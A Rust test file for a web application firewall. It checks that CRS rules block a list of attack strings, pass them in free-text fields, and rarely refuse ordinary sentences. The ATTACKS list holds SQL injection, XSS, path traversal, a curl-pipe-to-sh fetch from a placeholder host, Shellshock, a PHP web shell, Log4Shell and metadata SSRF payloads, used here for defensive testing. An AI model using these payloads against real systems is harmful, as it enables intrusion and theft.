//! What is refused and what passes in the set-up that operators run.

use std::collections::BTreeMap;

use seclang::{Limits, Mode, Request, RuleSet, Transaction, Verdict};
use serde_json::Value;

use crate::cases::Sent;
use crate::exchange::request;
use crate::rules;

/// Of ordinary sentences sent as an ordinary parameter, so many in a hundred are refused at most. libmodsecurity refuses as
/// many: what CRS itself takes for an attack, such as a path to a known file.
const REFUSED_MOST: f64 = 0.6;

/// Text that every firewall is expected to refuse in a parameter.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE accounts; --",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)//<svg/onload=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "; cat /etc/passwd",
    "$(curl http://198.51.100.7/x.sh | sh)",
    "`wget http://198.51.100.7/`",
    "() { :;}; /bin/bash -c id",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://198.51.100.7/a}",
    "http://169.254.169.254/latest/meta-data/",
];

fn posted(body: Vec<u8>, content_type: &str) -> Sent {
    let header = |name: &str, value: &str| (name.as_bytes().to_vec(), value.as_bytes().to_vec());
    let headers = vec![
        header("Host", "desk.example"),
        header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        header("Accept", "*/*"),
        header("Content-Type", content_type),
        header("Content-Length", &body.len().to_string()),
    ];
    Sent { method: b"POST".to_vec(), target: b"/v1/notes".to_vec(), protocol: b"HTTP/1.1".to_vec(), headers, body }
}

fn as_json(text: &str) -> Sent {
    posted(serde_json::json!({ "text": text }).to_string().into_bytes(), "application/json")
}

fn verdict(rules: &RuleSet, sent: &Sent) -> Verdict {
    request(&mut Transaction::new(rules, Mode::Block, Limits::default()), sent)
}

#[test]
fn attacks_are_refused() {
    let Some(rules) = rules::as_it_comes() else {
        println!("not measured: attacks_are_refused: the rule set is not there");
        return;
    };
    for attack in ATTACKS {
        let refused = verdict(&rules, &as_json(attack));
        assert!(matches!(refused, Verdict::Refuse { status: 403, rule: 949_110 }), "{attack}: {refused:?}");
    }
    assert_eq!(verdict(&rules, &as_json("Can I move my appointment to Tuesday?")), Verdict::Pass);
}

#[test]
fn free_text_is_reported_and_passes() {
    let Some(rules) = rules::as_it_comes() else {
        println!("not measured: free_text_is_reported_and_passes: the rule set is not there");
        return;
    };
    for attack in ATTACKS {
        let sent = as_json(attack);
        let headers: Vec<(&[u8], &[u8])> =
            sent.headers.iter().map(|(name, value)| (name.as_slice(), value.as_slice())).collect();
        let mut transaction = Transaction::new(&rules, Mode::Block, Limits::default());
        transaction.request_headers(&Request {
            method: &sent.method,
            target: &sent.target,
            protocol: &sent.protocol,
            headers: &headers,
            remote_address: None,
            unique_id: "aQK3mBcD1eF5",
            free_text: &["text"],
        });
        assert_eq!(transaction.request_body(&sent.body), Verdict::Pass, "{attack}");
        assert!(transaction.matches().iter().any(|found| found.free_text), "{attack}");
        assert_eq!(transaction.score("blocking_inbound_anomaly_score"), 0, "{attack}");
    }
}

#[test]
fn ordinary_sentences_pass() {
    let Some(rules) = rules::as_it_comes() else {
        println!("not measured: ordinary_sentences_pass: the rule set is not there");
        return;
    };
    let mut all = Tally::default();
    for name in ["pii-synthetic.written.json", "pii-synthetic.spoken.json", "clinc150.dev.json", "banking77.train.csv"]
    {
        let Some(sentences) = sentences(name) else {
            println!("not measured: ordinary_sentences_pass: {name} is not there");
            continue;
        };
        let tally = measured(&rules, &sentences);
        println!("{name:<30} {:>3} of {:>6} refused by {:?}", tally.refused, tally.all, tally.by);
        all.refused += tally.refused;
        all.all += tally.all;
    }
    println!("all sentences: {} of {} refused, {:.2} %", all.refused, all.all, all.share());
    assert!(all.share() <= REFUSED_MOST, "{:.2} %", all.share());
}

#[derive(Default)]
struct Tally {
    refused: usize,
    all: usize,
    /// Rules that saw something in what was refused.
    by: BTreeMap<u64, usize>,
}

impl Tally {
    fn share(&self) -> f64 {
        100.0 * self.refused as f64 / self.all.max(1) as f64
    }
}

fn measured(rules: &RuleSet, sentences: &[String]) -> Tally {
    let mut tally = Tally::default();
    for sentence in sentences {
        let mut transaction = Transaction::new(rules, Mode::Block, Limits::default());
        tally.all += 1;
        if request(&mut transaction, &as_json(sentence)) != Verdict::Pass {
            tally.refused += 1;
            let found = transaction.matches().iter().filter(|found| found.severity.is_some());
            found.for_each(|found| *tally.by.entry(found.rule).or_default() += 1);
        }
    }
    tally
}

fn sentences(name: &str) -> Option<Vec<String>> {
    let text = std::fs::read_to_string(rules::shared().join("eval").join(name)).ok()?;
    if name.contains("csv") {
        let sentence = |line: &str| line.rsplit_once(',').map(|(text, _)| text.trim_matches('"').to_owned());
        return Some(text.lines().skip(1).filter_map(sentence).collect());
    }
    let mut found = Vec::new();
    collect(&serde_json::from_str(&text).expect("JSON"), &mut found);
    Some(found)
}

/// Sentences of the sets: the `text` or `full_text` of entries, and the first of pairs of sentence and intent.
fn collect(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::Array(items) => match items.as_slice() {
            [Value::String(sentence), Value::String(_)] => found.push(sentence.clone()),
            items => items.iter().for_each(|item| collect(item, found)),
        },
        Value::Object(entries) => {
            for (key, value) in entries {
                match value {
                    Value::String(text) if key == "text" || key == "full_text" => found.push(text.clone()),
                    Value::Array(_) if key != "spans" => collect(value, found),
                    Value::Object(_) => collect(value, found),
                    _ => {}
                }
            }
        }
        _ => {}
    }
}
